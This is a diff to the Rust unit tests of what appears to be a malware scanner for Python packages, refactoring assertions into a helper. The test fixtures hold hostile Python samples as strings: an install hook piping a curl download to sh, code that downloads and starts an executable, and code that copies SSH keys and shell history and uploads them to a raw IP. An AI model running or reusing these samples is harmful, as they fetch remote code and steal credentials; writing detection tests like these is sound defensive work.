@@ -464,16 +464,16 @@ mod tests {
         ))
     }
 
+    fn has(scores: &FileScores, rule: &str) -> bool {
+        scores.contributions.iter().any(|c| c.rule == rule)
+    }
+
     #[test]
     fn dropper_setup_is_malicious() {
         let code = "from setuptools import setup\nfrom setuptools.command.install import install\nimport os\nclass I(install):\n    def run(self):\n        os.system('curl http://x.invalid/a.sh | sh')\n        install.run(self)\nsetup(name='x', cmdclass={'install': I})\n";
         let s = score("x-1/setup.py", code);
         assert!(s.malware >= 0.9, "{s:?}");
-        assert!(
-            s.contributions
-                .iter()
-                .any(|c| c.rule == "combo:hook-with-payload")
-        );
+        assert!(has(&s, "combo:hook-with-payload"));
     }
 
     #[test]
@@ -481,41 +481,22 @@ mod tests {
         let code = "import os, requests\ndef close():\n    url = 'https://example.invalid/files/server.exe'\n    r = requests.get(url)\n    with open('C://k//server.exe', 'wb') as f:\n        f.write(r.content)\n    os.system('start C://k//server.exe')\n";
         let s = score("x-1/x/main.py", code);
         assert!(s.malware >= 0.7, "{s:?}");
-        assert!(
-            s.contributions
-                .iter()
-                .any(|c| c.rule == "combo:executable-fetched-and-run")
-        );
+        assert!(has(&s, "combo:executable-fetched-and-run"));
         // An installer URL named in one function and a process started in another is not it.
         let apart = "import os, requests\nURL = 'https://example.invalid/files/server.exe'\ndef fetch():\n    return requests.get(URL)\ndef run(cmd):\n    os.system(cmd)\n";
         let s = score("x-1/x/main.py", apart);
-        assert!(
-            !s.contributions
-                .iter()
-                .any(|c| c.rule == "combo:executable-fetched-and-run"),
-            "{s:?}"
-        );
+        assert!(!has(&s, "combo:executable-fetched-and-run"), "{s:?}");
     }
 
     #[test]
     fn collected_credentials_uploaded_to_a_raw_ip_are_malicious() {
         let code = "import os, shutil\ndef run():\n    shutil.copytree(os.path.expanduser('~/.ssh'), '/tmp/c/ssh')\n    shutil.copyfile(os.path.expanduser('~/.bash_history'), '/tmp/c/h')\n    os.system('curl -k -F \"file=@/tmp/c.zip\" https://45.13.22.9/upload')\n";
         let s = score("x-1/x/api.py", code);
-        assert!(
-            s.contributions
-                .iter()
-                .any(|c| c.rule == "combo:credentials-uploaded"),
-            "{s:?}"
-        );
+        assert!(has(&s, "combo:credentials-uploaded"), "{s:?}");
         // A client reading its own SSH config and talking to its server is not that.
         let client = "import os, requests\ndef connect(host):\n    cfg = open(os.path.expanduser('~/.ssh/config')).read()\n    requests.post('https://' + host + '/api', data=cfg)\n";
         let s = score("x-1/x/client.py", client);
-        assert!(
-            !s.contributions
-                .iter()
-                .any(|c| c.rule == "combo:credentials-uploaded"),
-            "{s:?}"
-        );
+        assert!(!has(&s, "combo:credentials-uploaded"), "{s:?}");
     }
 
     #[test]
